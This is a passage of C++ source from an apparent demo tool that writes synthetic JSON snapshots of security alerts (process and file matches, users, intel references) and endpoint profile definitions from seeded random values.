    m_num.clear();
    if (t.platform == Platform::Windows)
        m_num.append("CORP\\"sv);
    m_num.append(user);
    if (intel.matchType == "process"sv) {
        const std::uint64_t hp = rng(Tag::AlertPid, uk);
        b.append(R"("pid":)"sv);
        appendInt(b, 400 + below(hp, 60000));
        b.append(R"(,"ppid":)"sv);
        appendInt(b, 4 + below(mix64(hp), 4000));
        b.append(R"(,"name":)"sv);
        appendJsonString(b, intel.process);
        b.append(R"(,"fullpath":)"sv);
        appendJsonString(b, m_cell);
        b.append(R"(,"args":)"sv);
        m_cell.clear();
        appendWithUser(m_cell, intel.args, user);
        appendJsonString(b, m_cell);
    } else {
        b.append(R"("file":{"fullpath":)"sv);
        appendJsonString(b, m_cell);
        b.append(R"(,"size":)"sv);
        appendInt(b, 68 + below(hash2, 4000000));
        b.append(R"(,"md5":")"sv);
        appendHex(b, hash1, 16);
        appendHex(b, hash2, 16);
        b.append("\"}"sv);
    }
    b.append(R"(,"user":)"sv);
    appendJsonString(b, m_num);
    b.append(R"(}}},"intelDoc":{"id":)"sv);
    appendInt(b, intel.id);
    b.append(R"(,"name":)"sv);
    appendJsonString(b, intel.name);
    b.append(R"(,"type":)"sv);
    appendJsonString(b, intel.type);
    b.append("}}"sv);
}

void SnapshotWriter::writeProfiles()
{
    std::string &b = m_out[Profiles].buf();
    b.append(R"({"data":[)"sv);
    for (std::size_t p = 0; p < kProfiles.size(); ++p) {
        const ProfileDef &d = kProfiles[p];
        if (p > 0)
            b.push_back(',');
        b.append(R"({"name":)"sv);
        appendJsonString(b, d.name);
        b.append(R"(,"id":)"sv);
        appendInt(b, d.id);
        b.append(R"(,"revision":)"sv);
        appendInt(b, d.revision[std::size_t(m_month)]);
        b.append(R"(,"status":)"sv);
        appendJsonString(b, d.status[std::size_t(m_month)]);
        b.append(R"(,"computerGroups":[)"sv);
        bool firstGroup = true;
        for (string_view g : d.groups) {
            if (g.empty())
                continue;
            if (!firstGroup)
                b.push_back(',');
            firstGroup = false;
            appendJsonString(b, g);
        }
        b.append("]}"sv);
    }
    b.append("]}"sv);
}

} // namespace

bool writeSnapshotFiles(const Fleet &fleet, int month, const QString &dir, QStringList *files,
                        QString *error)
{
    SnapshotWriter writer(fleet, month, dir);
    return writer.run(files, error);
}

} // namespace trh::demo
